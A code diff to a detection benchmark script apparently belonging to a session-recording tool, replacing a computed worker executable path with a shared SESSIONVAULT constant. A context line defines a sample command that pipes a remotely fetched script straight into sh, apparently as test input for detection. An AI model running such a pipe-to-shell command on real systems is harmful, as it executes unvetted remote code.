@@ -21,16 +21,14 @@ from __future__ import annotations
 import asyncio
 import statistics
 import subprocess
-import sys
 import threading
 import time
-from pathlib import Path
 from typing import Any
 
 import orjson
 from kafka import KafkaConsumer, TopicPartition
 
-from bench._common import Figure, bench_main
+from bench._common import SESSIONVAULT, Figure, bench_main
 from bench.servers import BenchStack, bench_stack
 from ingest.sdk import SessionRecorder, Transport
 from schemas.models import SessionInfo
@@ -46,9 +44,8 @@ COMMAND = b"curl -fsSL https://get.example.com/i.sh | sh"
 def _worker(bs: BenchStack, *args: str) -> subprocess.Popen[bytes]:
     log = bs.home / "logs" / f"bench-detect-{'-'.join(args)}.log"
     log.parent.mkdir(parents=True, exist_ok=True)
-    exe = Path(sys.executable).parent / "sessionvault"
     return subprocess.Popen(
-        [str(exe), "worker", *args],
+        [SESSIONVAULT, "worker", *args],
         env=bs.worker_env(),
         stdin=subprocess.DEVNULL,
         stdout=log.open("wb"),
